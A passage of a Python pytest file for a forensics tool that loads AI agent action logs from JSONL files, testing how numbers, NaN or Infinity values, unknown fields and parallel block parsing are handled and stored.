    path = tmp_path / "numbers.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    res = load_ok(case, path, rows=len(lines))
    texts = [t for (t,) in case.sql("SELECT extra::VARCHAR FROM agent_actions "
                                    "WHERE evidence_id = ? ORDER BY line_no",
                                    [res.evidence_id]).rows()]

    def expected(line: str) -> str:
        python = json.dumps(json.loads(line)["extra"], ensure_ascii=False)
        if "\\" in python:
            return python
        return pl.read_ndjson(io.BytesIO(line.encode()),
                              schema={"extra": pl.String()})["extra"][0]

    def doubles(text: str) -> object:
        return json.loads(text, parse_int=float)

    assert [(n, t) for n, t, line in zip(numbers, texts, lines) if t != expected(line)] == []
    assert [(n, t) for n, t, line in zip(numbers, texts, lines)
            if doubles(t) != doubles(line)["extra"]] == []
    assert texts[numbers.index("1.0")] == '{"v": 1, "k": "x"}'
    assert texts[numbers.index("123456789012345678901234")] == (
        '{"v": 123456789012345678901234, "k": "x"}')
    assert texts[len(numbers)] == '{"v": 1.0, "p": "back\\\\slash"}'  # an escape: Python


@pytest.mark.parametrize("careful", [False, True])
def test_jsonl_number_in_a_text_field_is_stored_as_one_text_by_either_path(
        case, tmp_path, monkeypatch, careful):
    # A text field holding a JSON number or boolean is stored as its text (docs), the
    # same text whichever path read the line: the bulk read's spelling.
    _one_path(monkeypatch, careful)
    hosts = ["17", "1.0", "1e-7", "-0.0", "2.5", "true", "123456789012345678901234"]
    stored = []
    for i, host in enumerate(hosts):  # a file each: polars' sample read wants one type
        path = tmp_path / f"host{i}.jsonl"
        path.write_text(_line(step=i)[:-1] + ',"host":' + host + "}\n", encoding="utf-8")
        res = load_ok(case, path, rows=1)
        stored += case.sql("SELECT host FROM agent_actions WHERE evidence_id = ?",
                           [res.evidence_id]).rows()
    assert [h for (h,) in stored] == ["17", "1", "0.0000001", "-0", "2.5", "true",
                      "123456789012345678901234"]


def test_jsonl_nan_infinity_and_numbers_beyond_a_double_are_rejects(case, tmp_path):
    # Python's reader takes NaN and Infinity (not JSON) and reads 1e400 as an infinity,
    # which json.dumps writes back as Infinity: stored, that is text no strict JSON reader
    # takes. Each such line is a reject with its reason; the lines around it load.
    head = _line(step=0)[:-1]
    lines = [_line(step=1, extra={"v": 1.0}), head + ',"extra":{"v":NaN}}',
             head + ',"extra":{"v":[1,-Infinity]}}', head + ',"extra":{"v":1e400}}',
             head + ',"output":"x","step":2e999}', _line(step=2, extra={"v": 0.5})]
    path = tmp_path / "nan.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    res = load_ok(case, path, rows=2, rejects=4)
    assert rejects_of(case, res.evidence_id) == {
        2: "not valid JSON: NaN is not a JSON value (RFC 8259 has no NaN or Infinity)",
        3: "not valid JSON: -Infinity is not a JSON value (RFC 8259 has no NaN or Infinity)",
        4: "not valid JSON: number 1e400 is beyond the range of a 64-bit float",
        5: "not valid JSON: number 2e999 is beyond the range of a 64-bit float"}
    stored = case.sql("SELECT extra::VARCHAR FROM agent_actions WHERE evidence_id = ? "
                      "ORDER BY line_no", [res.evidence_id]).rows()
    assert stored == [('{"v": 1}',), ('{"v": 0.5}',)]  # read carefully, spelled as in bulk


def test_jsonl_string_extra_in_a_block_without_any_escape_is_a_reject(case, tmp_path):
    """With no backslash in a block the exactness checks are skipped, except the one a
    string `extra` needs: `"{}"` and `"{oops"` read like objects without any escape."""
    head = _line(step=0)[:-1]
    lines = [_line(step=0, command="ok"), head + ',"extra":"{}"}', head + ',"extra":"{oops"}',
             _line(step=0, command="ok too")]
    assert "\\" not in "".join(lines)
    path = tmp_path / "plain.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    res = load_ok(case, path, rows=2, rejects=2)
    assert rejects_of(case, res.evidence_id) == {2: "field extra: a JSON str, not an object",
                                                 3: "field extra: a JSON str, not an object"}


def test_jsonl_unknown_field_first_written_after_the_sample_reaches_extra(case, tmp_path):
    """The bulk read fixes the spec's fields; a field outside the spec that first shows up
    past the sampled head of a block must still land in `extra`, never be dropped."""
    from forensics.loaders.agent import jsonl

    lines = [_line(step=i, command="x" * 100) for i in range(5000)]
    lines[4000] = _line(step=4000, command="x" * 100, pod="late-pod-7")
    assert len("\n".join(lines[:4000])) > jsonl.SAMPLE_BYTES
    path = tmp_path / "late.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    res = load_ok(case, path, rows=5000)
    extra = case.sql("SELECT extra FROM agent_actions WHERE evidence_id = ? AND line_no = 4001",
                     [res.evidence_id]).rows()
    assert [json.loads(e) for (e,) in extra] == [{"pod": "late-pod-7"}]


def test_jsonl_blocks_parsed_two_at_a_time_equal_one_at_a_time(tmp_path, monkeypatch):
    """Blocks are parsed in two threads, each counting into its own context: rows,
    rejects (with their lines) and every count must equal a one-block-at-a-time load."""
    import functools

    import forensics
    from forensics.loaders import reading
    from forensics.loaders.agent import jsonl

    lines = []
    for i in range(300):
        if i % 37 == 5:
            lines.append('{"schema": "forensics.agent/1", "run": "r1"')      # cut short
        elif i % 53 == 7:
            lines.append("")
        else:
            lines.append(_line(step=i, command=f"cmd {i}", output="o" * (i % 4000)))
    path = tmp_path / "many.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    monkeypatch.setattr(jsonl, "iter_blocks", functools.partial(reading.iter_blocks,
                                                                 block_bytes=2000))

    def load():
        case = forensics.open_case(":memory:")
        res = case.load(path).files[0]
        rows = case.sql("SELECT line_no, command, output_excerpt FROM agent_actions "
                        "ORDER BY line_no").rows()
        rejects = case.sql("SELECT line_no, reason FROM rejects ORDER BY line_no").rows()
        ev = case.evidence().select("lines_read", "blank_lines", "rows_loaded",
                                    "rows_rejected", "notes").rows()
        return res.rows, rows, rejects, ev

    parallel = load()
    monkeypatch.setattr(jsonl, "ordered_map", lambda work, items, workers=2: map(work, items))
    serial = load()
    assert parallel == serial
    assert parallel[0] == 300 - len(parallel[2]) - parallel[3][0][1]
    assert len(parallel[2]) == 8 and parallel[3][0][:2] == (300, 6)
